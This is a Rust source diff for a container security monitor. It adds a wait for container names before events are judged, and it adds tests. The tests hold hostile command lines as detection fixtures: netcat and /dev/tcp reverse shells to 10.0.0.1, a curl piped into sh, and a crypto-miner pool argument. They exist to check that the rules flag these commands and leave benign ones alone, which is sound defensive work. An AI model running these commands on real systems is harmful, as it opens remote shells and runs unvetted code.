@@ -1,5 +1,8 @@
 //! Events in, alerts out.
 
+use std::collections::BTreeMap;
+use std::time::{Duration, Instant};
+
 use haechi_core::alert::{ALERT_SCHEMA, Alert, AlertContainer, Ancestor, Priority};
 use haechi_core::event::Event;
 use haechi_rules::Rules;
@@ -8,6 +11,11 @@ use jiff::{SignedDuration, Timestamp};
 use crate::container::{Container, Containers};
 use crate::tree::Tree;
 use crate::view::View;
+
+/// How long events of a container wait for its name: rules ask for it, and the engine answers within some milliseconds.
+const NAME_WAIT: Duration = Duration::from_millis(500);
+/// Events that wait for the name of one container; with more of them nothing waits.
+const WAITING_MAX: usize = 10_000;
 
 /// Ancestors that an alert names.
 const ANCESTORS_SHOWN: usize = 8;
@@ -32,6 +40,9 @@ pub struct Monitor {
     rules: Rules,
     clock: Clock,
     host: String,
+    seen: u64,
+    /// Events of containers whose name is not known yet, by control group, with the moment of the first.
+    waiting: BTreeMap<u64, (Instant, Vec<Event>)>,
     /// Processes.
     pub tree: Tree,
     /// Containers.
@@ -41,7 +52,15 @@ pub struct Monitor {
 impl Monitor {
     /// Knows no process and no container yet.
     pub fn new(rules: Rules, clock: Clock, host: String) -> Self {
-        Self { rules, clock, host, tree: Tree::default(), containers: Containers::default() }
+        Self {
+            rules,
+            clock,
+            host,
+            seen: 0,
+            waiting: BTreeMap::new(),
+            tree: Tree::default(),
+            containers: Containers::default(),
+        }
     }
 
     /// The rules.
@@ -54,11 +73,66 @@ impl Monitor {
         self.rules = rules;
     }
 
-    /// Learns from an event and judges it. Events have to come in the order in which they happened.
-    pub fn see(&mut self, event: &Event) -> Vec<Alert> {
+    /// Takes an event. Those of one container have to come in the order in which they happened. They are judged at
+    /// once, or, while the container has no name, when that is told or the time for it is over.
+    pub fn see(&mut self, event: Event, now: Instant) -> Vec<Alert> {
+        let unnamed = self.containers.get(event.cgroup).is_some_and(|known| known.name.is_empty());
+        if !unnamed {
+            return self.judge(&event);
+        }
+        let (since, events) = self.waiting.entry(event.cgroup).or_insert_with(|| (now, Vec::new()));
+        if now.duration_since(*since) < NAME_WAIT && events.len() < WAITING_MAX {
+            events.push(event);
+            return Vec::new();
+        }
+        let mut alerts = self.release(event.cgroup);
+        alerts.extend(self.judge(&event));
+        alerts
+    }
+
+    /// Takes what the engine says about a container, and judges what waited for it.
+    pub fn learn(&mut self, told: &Container) -> Vec<Alert> {
+        self.containers.learn(told);
+        self.release_if(|containers, cgroup, _| {
+            containers.get(cgroup).is_none_or(|known| !known.name.is_empty())
+        })
+    }
+
+    /// Judges what has waited long enough. To be called a few times a second.
+    pub fn tick(&mut self, now: Instant) -> Vec<Alert> {
+        self.release_if(|_, _, since| now.duration_since(since) >= NAME_WAIT)
+    }
+
+    /// Judges all that waits: the end.
+    pub fn rest(&mut self) -> Vec<Alert> {
+        self.release_if(|_, _, _| true)
+    }
+
+    fn release_if(&mut self, which: impl Fn(&Containers, u64, Instant) -> bool) -> Vec<Alert> {
+        let all = self.waiting.iter().map(|(cgroup, (since, _))| (*cgroup, *since));
+        let ready: Vec<u64> = all
+            .filter(|(cgroup, since)| which(&self.containers, *cgroup, *since))
+            .map(|(cgroup, _)| cgroup)
+            .collect();
+        ready.into_iter().flat_map(|cgroup| self.release(cgroup)).collect()
+    }
+
+    fn release(&mut self, cgroup: u64) -> Vec<Alert> {
+        // The moment of the first stays, so that a container that never gets a name waits only once.
+        let Some((_, events)) = self.waiting.get_mut(&cgroup) else { return Vec::new() };
+        let events = std::mem::take(events);
+        if self.containers.get(cgroup).is_none_or(|known| !known.name.is_empty()) {
+            self.waiting.remove(&cgroup);
+        }
+        events.iter().flat_map(|event| self.judge(event)).collect()
+    }
+
+    /// Learns from an event and judges it.
+    fn judge(&mut self, event: &Event) -> Vec<Alert> {
+        self.seen += 1;
         self.tree.see(event);
         let container = self.containers.get(event.cgroup);
-        let view = View { event, tree: &self.tree, container, host: &self.host };
+        let view = View { event, number: self.seen, tree: &self.tree, container, host: &self.host };
         let matching = self.rules.matching(&event.call, &view);
         matching.map(|rule| self.alert(rule, event, container, &view)).collect()
     }
@@ -120,5 +194,108 @@ fn priority(rule: &haechi_rules::Rule) -> Priority {
         Rules::Notice => Priority::Notice,
         Rules::Informational => Priority::Informational,
         Rules::Debug => Priority::Debug,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use haechi_core::event::{Action, Exec, Network, Process, Socket};
+
+    use super::*;
+    use crate::fields::Fields;
+
+    fn monitor() -> Monitor {
+        let rules = Rules::load(&[crate::RULES], &Fields).rules;
+        let mut monitor =
+            Monitor::new(rules, Clock { started: Timestamp::UNIX_EPOCH }, "host".into());
+        monitor.containers.begin(7, &"ab".repeat(32), 1);
+        monitor
+    }
+
+    fn event(call: &str, action: Action) -> Event {
+        let process = Process { pid: 9, tid: 9, started: 5, ..Process::default() };
+        Event { at: 2_000_000_000, cgroup: 7, process, call: call.into(), result: 0, action }
+    }
+
+    fn exec(path: &str, args: &[&str]) -> Event {
+        let args = args.iter().map(|arg| (*arg).to_owned()).collect();
+        let exec = Exec { path: path.into(), args, ..Exec::default() };
+        let mut event = event("execve", Action::Exec(Box::new(exec)));
+        event.process.name = path.rsplit('/').next().unwrap_or_default().into();
+        event
+    }
+
+    fn rules(event: &Event) -> Vec<String> {
+        monitor().judge(event).into_iter().map(|alert| alert.rule).collect()
+    }
+
+    #[test]
+    fn a_rule_that_matches_is_an_alert_with_all_that_is_known() {
+        let alerts = monitor().judge(&exec("/usr/sbin/sshd", &["sshd", "-D"]));
+        let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
+        assert_eq!(alert.at, "1970-01-01T00:00:02Z".parse().unwrap());
+        assert_eq!((alert.program.as_str(), alert.command.as_str()), ("/usr/sbin/sshd", "sshd -D"));
+        assert_eq!(alert.checks, ["container-no-ssh-server"]);
+        assert_eq!(alert.container.id.len(), 64);
+        assert!(alert.text.contains("command=sshd -D"), "{}", alert.text);
+    }
+
+    #[test]
+    fn events_wait_for_the_name_but_not_for_ever() {
+        let ssh = || exec("/usr/sbin/sshd", &["sshd"]);
+        let begin = Instant::now();
+        let mut named = monitor();
+        assert!(named.see(ssh(), begin).is_empty());
+        let told = Container { id: "ab".repeat(32), name: "web".into(), ..Container::default() };
+        assert_eq!(named.learn(&told).len(), 1);
+        let at_once = named.see(ssh(), begin);
+        assert_eq!(at_once.iter().map(|a| a.container.name.as_str()).collect::<Vec<_>>(), ["web"]);
+
+        let mut nameless = monitor();
+        assert!(nameless.see(ssh(), begin).is_empty() && nameless.tick(begin).is_empty());
+        assert_eq!(nameless.tick(begin + NAME_WAIT).len(), 1);
+        assert_eq!(nameless.see(ssh(), begin + NAME_WAIT).len(), 1, "it has waited once");
+        let mut ended = monitor();
+        assert!(ended.see(ssh(), begin).is_empty());
+        assert_eq!((ended.rest().len(), ended.rest().len()), (1, 0));
+    }
+
+    #[test]
+    fn what_attackers_do_and_what_everybody_does() {
+        for (path, args, rule) in [
+            ("/bin/nc", &["nc", "10.0.0.1", "9", "-e", "/bin/sh"][..], "Reverse shell"),
+            ("/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/9"], "Reverse shell"),
+            ("/bin/sh", &["sh", "-c", "curl -s site | sh"], "Download piped into a shell"),
+            ("/tmp/a", &["a", "-o", "stratum+tcp://pool:1"], "Crypto miner"),
+            (
+                "/usr/bin/apt-get",
+                &["apt-get", "install", "x"],
+                "Package manager run in a container",
+            ),
+        ] {
+            assert_eq!(rules(&exec(path, args)), [rule], "{path}");
+        }
+        for (path, args) in [
+            ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"][..]),
+            ("/bin/nc", &["nc", "-z", "db", "5432"]),
+            ("/bin/sh", &["sh", "-c", "curl -fsS site/health || exit 1"]),
+            ("/usr/bin/ssh", &["ssh", "host"]),
+        ] {
+            assert_eq!(rules(&exec(path, args)), [""; 0], "{path}");
+        }
+    }
+
+    #[test]
+    fn the_engine_socket_is_known_by_its_name() {
+        let network = |path: &str| Network {
+            socket: Socket::Unix,
+            local: None,
+            remote: None,
+            path: path.into(),
+            payload: Vec::new(),
+        };
+        let connect = |path: &str| event("connect", Action::Network(network(path)));
+        assert_eq!(rules(&connect("/var/run/docker.sock")), ["Engine socket used by a container"]);
+        assert_eq!(rules(&connect("/run/app.sock")), [""; 0]);
     }
 }
